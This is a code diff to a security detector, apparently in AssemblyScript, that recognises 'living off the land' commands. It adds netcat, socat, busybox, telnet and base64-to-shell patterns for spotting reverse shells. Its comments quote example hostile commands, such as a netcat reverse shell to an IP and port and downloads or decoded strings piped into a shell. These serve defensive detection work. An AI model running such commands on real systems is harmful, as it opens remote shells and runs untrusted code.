@@ -16,10 +16,11 @@
 import { byteAt, indexOfWord, isLetter, isSpaceOrTab, lowerAscii, matchesLowerAt, skipSpacesAndTabs } from "../lib/bytes";
 
 const POWERSHELL = 0, PWSH = 1, CERTUTIL = 2, BITSADMIN = 3, REGSVR32 = 4, RUNDLL32 = 5, MSHTA = 6, WMIC = 7,
-  MSIEXEC = 8, CSCRIPT = 9, WSCRIPT = 10, CMD = 11, AWK = 12, GAWK = 13, CURL = 14, WGET = 15;
+  MSIEXEC = 8, CSCRIPT = 9, WSCRIPT = 10, CMD = 11, AWK = 12, GAWK = 13, CURL = 14, WGET = 15, NC = 16, NCAT = 17,
+  NETCAT = 18, BUSYBOX = 19, SOCAT = 20, TELNET = 21, ECHO = 22, PRINTF = 23, BASE64 = 24;
 const PROGRAMS: StaticArray<string> = [
   "powershell", "pwsh", "certutil", "bitsadmin", "regsvr32", "rundll32", "mshta", "wmic", "msiexec", "cscript", "wscript", "cmd",
-  "awk", "gawk", "curl", "wget",
+  "awk", "gawk", "curl", "wget", "nc", "ncat", "netcat", "busybox", "socat", "telnet", "echo", "printf", "base64",
   // The interpreters, all that follow: an option, then a program that holds one of CODE_MARKERS.
   "python", "python2", "python3", "perl", "ruby", "php", "node", "lua",
 ];
@@ -33,6 +34,8 @@ const RUNDLL32_ARGS: StaticArray<string> = ["javascript:", "vbscript:", "runhtml
 const URL_ARGS: StaticArray<string> = ["http:", "https:", "ftp:", "\\\\", "javascript:", "vbscript:"];
 const WMIC_ARGS: StaticArray<string> = ["call create", "/format:"];
 const SCRIPT_ARGS: StaticArray<string> = ["//e:", "/e:", "\\\\"];
+// socat's addresses that run a program (`exec:sh`, `system:…`).
+const SOCAT_RUNS: StaticArray<string> = ["exec:", "system:"];
 // What a download is piped to that runs it (`curl -s http://… | sh`), a path before it allowed.
 const SHELLS: StaticArray<string> = [
   "sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "fish", "python", "python2", "python3", "perl", "ruby", "php", "node",
@@ -56,9 +59,12 @@ const MAX_WORD = 96;
   if (n < 12) return false;
   let f = <u32>load<u8>(FIRST + <usize>load<u8>(p));
   if (f <= OPENS) return f == OPENS;
-  let row = NEXT_LETTERS + (<usize>(f - LETTER) << 3);
   let second = lowerAscii(<u32>load<u8>(p, 1)), third = lowerAscii(<u32>load<u8>(p, 2));
-  if (second - 0x61 < 26 && third - 0x61 < 26) return ((load<u32>(row) >>> (second - 0x61)) & (load<u32>(row, 4) >>> (third - 0x61)) & 1) != 0;
+  // A blank third stands for a two-letter name's end (`nc `): bit 26.
+  if (third == 0x20) third = 0x61 + 26;
+  if (second - 0x61 < 26 && third - 0x61 < 27) {
+    return ((load<u32>(THIRD_LETTERS + ((<usize>(f - LETTER) * 26 + <usize>(second - 0x61)) << 2)) >>> (third - 0x61)) & 1) != 0;
+  }
   return second == 0x5E || second == 0x22 || third == 0x5E || third == 0x22 || (f == LETTER + 2 && second == 0x3A); // `c^…`, `c"…`, `c:\…`
 }
 
@@ -79,33 +85,34 @@ function firstBytes(): usize {
   return t;
 }
 
-// For each first letter, a bit per second letter and a bit per third letter that some program's
-// name (or `cmd`) has after it.
-const NEXT_LETTERS = nextLetters();
-function nextLetters(): usize {
-  let t = memory.data(26 * 8, 8);
+// For each first and second letter, a bit per third letter that some program's name (or `cmd`)
+// has after those two; bit 26 for a two-letter name (`nc`), whose third byte is a blank. A bit per
+// second and per third letter alone let every `note`, `price` and `base` through (`node`'s o,
+// `netcat`'s t): 0.5% of a JSON body's instructions (make profile).
+const THIRD_LETTERS = thirdLetters();
+function thirdLetters(): usize {
+  let t = memory.data(26 * 26 * 4, 4);
   for (let k = 0; k < PROGRAMS.length; k++) {
     let w = PROGRAMS[k];
-    let row = t + (<usize>(w.charCodeAt(0) - 0x61) << 3);
-    store<u32>(row, load<u32>(row) | (1 << (w.charCodeAt(1) - 0x61)));
-    store<u32>(row, load<u32>(row, 4) | (1 << (w.charCodeAt(2) - 0x61)), 4);
+    let cell = t + ((<usize>(w.charCodeAt(0) - 0x61) * 26 + <usize>(w.charCodeAt(1) - 0x61)) << 2);
+    store<u32>(cell, load<u32>(cell) | (1 << (w.length > 2 ? w.charCodeAt(2) - 0x61 : 26)));
   }
   return t;
 }
 
 export function livingOffTheLand(p: usize, n: i32): bool {
   let word = programAt(p, n, skipOpening(p, n, 0));
-  let program = (word & 31) - 1;
+  let program = (word & 63) - 1;
   if (program == CMD) {
     // `cmd /c <line>`: the program that line runs.
-    let i = skipSpacesAndTabs(p, n, word >> 5);
+    let i = skipSpacesAndTabs(p, n, word >> 6);
     if (!(byteAt(p, n, i) == 0x2F && (lowerAscii(byteAt(p, n, i + 1)) == 0x63 || lowerAscii(byteAt(p, n, i + 1)) == 0x6B) &&
         isSpaceOrTab(byteAt(p, n, i + 2)))) return false;
     word = programAt(p, n, skipOpening(p, n, i + 3));
-    program = (word & 31) - 1;
+    program = (word & 63) - 1;
   }
   if (program < 0 || program == CMD) return false;
-  let s = word >> 5;
+  let s = word >> 6;
   if (s >= n || !isSpaceOrTab(load<u8>(p + <usize>s))) return false;
   let e = s;
   while (e < n && load<u8>(p + <usize>e) != 0x0A && load<u8>(p + <usize>e) != 0x0D) e++;
@@ -120,7 +127,18 @@ export function livingOffTheLand(p: usize, n: i32): bool {
     case WMIC: return containsOneOf(p, e, s, WMIC_ARGS) && !containsOneOf(p, e, s, PROSE);
     // awk's program is its first argument, quoted, or follows its options.
     case AWK: case GAWK: return (byteAt(p, e, a) == 0x27 || byteAt(p, e, a) == 0x22 || byteAt(p, e, a) == 0x2D) && containsOneOf(p, e, a, CODE_MARKERS);
-    case CURL: case WGET: return pipedToShell(p, e, s);
+    case CURL: case WGET: return pipedToShell(p, e, s, true);
+    // A reverse shell: netcat running a program for its peer, socat joining one to a socket, or a
+    // telnet session, an echo or a decoder piped to a shell (`echo aWQ= | base64 -d | sh`).
+    case NC: case NCAT: case NETCAT: return execOption(p, e, s);
+    case SOCAT: return containsOneOf(p, e, s, SOCAT_RUNS);
+    case TELNET: case ECHO: case PRINTF: case BASE64: return pipedToShell(p, e, s, false);
+    case BUSYBOX: {
+      // `busybox nc …`: the applet it runs.
+      let applet = programAt(p, e, a);
+      let k = (applet & 63) - 1;
+      return (k == NC || k == NCAT || k == NETCAT) && execOption(p, e, applet >> 6);
+    }
   }
   let opt = byteAt(p, e, a);
   if (opt != 0x2D && opt != 0x2F) return false;
@@ -135,13 +153,14 @@ export function livingOffTheLand(p: usize, n: i32): bool {
   }
 }
 
-// Whether a URL in p[s..e) is followed by a `|` (not `||`, which runs on failure) into one of SHELLS,
-// `sudo` before it allowed: the download runs as a script (`wget -qO- http://…/x | sudo bash`).
-function pipedToShell(p: usize, e: i32, s: i32): bool {
+// Whether p[s..e) is piped (`|`, not `||`, which runs on failure) into one of SHELLS, `sudo` before
+// it allowed; with afterUrl, only after a URL: the download runs as a script (`wget -qO- http://…/x
+// | sudo bash`).
+function pipedToShell(p: usize, e: i32, s: i32, afterUrl: bool): bool {
   for (let i = s; i < e; i++) {
     if (load<u8>(p + <usize>i) != 0x7C) continue;
     if (byteAt(p, e, i + 1) == 0x7C) { i++; continue; }
-    if (!containsOneOf(p, i, s, URL_ARGS)) continue;
+    if (afterUrl && !containsOneOf(p, i, s, URL_ARGS)) continue;
     let j = skipSpacesAndTabs(p, e, i + 1);
     if (matchesLowerAt(p, e, j, "sudo") && isSpaceOrTab(byteAt(p, e, j + 4))) j = skipSpacesAndTabs(p, e, j + 4);
     // The name's last path segment (`/bin/bash`), to a blank, a separator or the line's end.
@@ -150,6 +169,18 @@ function pipedToShell(p: usize, e: i32, s: i32): bool {
     let k = w;
     while (k > j && load<u8>(p + <usize>(k - 1)) != 0x2F) k--;
     if (indexOfWord(p, e, k, w - k, SHELLS) >= 0) return true;
+  }
+  return false;
+}
+
+// Whether p[s..e) holds netcat's option that runs a program for the peer: `-e` or `-c` as a word
+// (`nc -e /bin/sh 10.0.0.1 4444`), or ncat's `--exec`, `--sh-exec`, `--lua-exec`.
+function execOption(p: usize, e: i32, s: i32): bool {
+  for (let i = s; i + 1 < e; i++) {
+    if (load<u8>(p + <usize>i) != 0x2D || !isSpaceOrTab(byteAt(p, e, i - 1))) continue;
+    let c = byteAt(p, e, i + 1);
+    if ((c == 0x65 || c == 0x63) && (i + 2 == e || isSpaceOrTab(byteAt(p, e, i + 2)))) return true;
+    if (matchesLowerAt(p, e, i, "--exec") || matchesLowerAt(p, e, i, "--sh-exec") || matchesLowerAt(p, e, i, "--lua-exec")) return true;
   }
   return false;
 }
@@ -164,7 +195,7 @@ function skipOpening(p: usize, n: i32, i: i32): i32 {
   return i;
 }
 
-// Which of PROGRAMS the word at i names (1 + its index in the low 5 bits, 0 for none) and where the
+// Which of PROGRAMS the word at i names (1 + its index in the low 6 bits, 0 for none) and where the
 // word ends (the bits above): its last path segment (after `\` or `/`), carets and double quotes
 // dropped as cmd.exe drops them, `.exe` after it allowed.
 function programAt(p: usize, n: i32, i: i32): i32 {
@@ -179,7 +210,7 @@ function programAt(p: usize, n: i32, i: i32): i32 {
     len++;
     j++;
   }
-  let end = j << 5;
+  let end = j << 6;
   if (len > NAME_BYTES || (j < n && !isSpaceOrTab(load<u8>(p + <usize>j)))) return end;
   if (len > 4 && matchesLowerAt(name, len, len - 4, ".exe")) len -= 4;
   return end | (indexOfWord(name, len, 0, len, PROGRAMS) + 1);
